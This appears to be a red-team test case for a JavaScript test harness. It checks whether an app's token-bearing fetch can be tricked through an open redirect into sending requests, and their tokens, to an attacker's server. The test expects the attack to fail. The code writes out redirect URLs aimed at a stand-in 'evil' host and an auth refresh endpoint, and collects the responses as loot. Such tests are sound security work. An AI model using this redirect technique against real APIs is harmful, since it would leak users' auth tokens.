// A real attacker: uses an open redirect of the API to have the request, and its token, sent on to their server.
export default {
  row: "own-endpoints",
  expected: ["loses", "loses"],
  after: async ({ api, evil, sibling, home }) => {
    const { app, redteam } = globalThis;
    const attempt = async (input, init) => {
      try {
        const response = await app.vault.fetch(input, init);
        redteam.loot([response.url, response.status, [...response.headers], await response.text()]);
        return response.status;
      } catch (error) {
        redteam.loot([error.name, error.code, error.message, error.stack]);
        return error.code ?? error.name;
      }
    };
    const outcomes = [];
    for (const to of [
      `${evil}/v1/me`,
      `${sibling}/v1/me`,
      `//${new URL(evil).host}/`,
      `${home}/auth/refresh`,
      `${api}/reflect`,
    ]) {
      for (const path of ["/v1/redirect", "/open/redirect"]) {
        for (const redirect of ["follow", "manual", "error"]) {
          if (to.startsWith(api) && path === "/open/redirect") continue;
          outcomes.push(await attempt(`${api}${path}?to=${encodeURIComponent(to)}`, { redirect }));
        }
      }
    }
    return outcomes;
  },
};
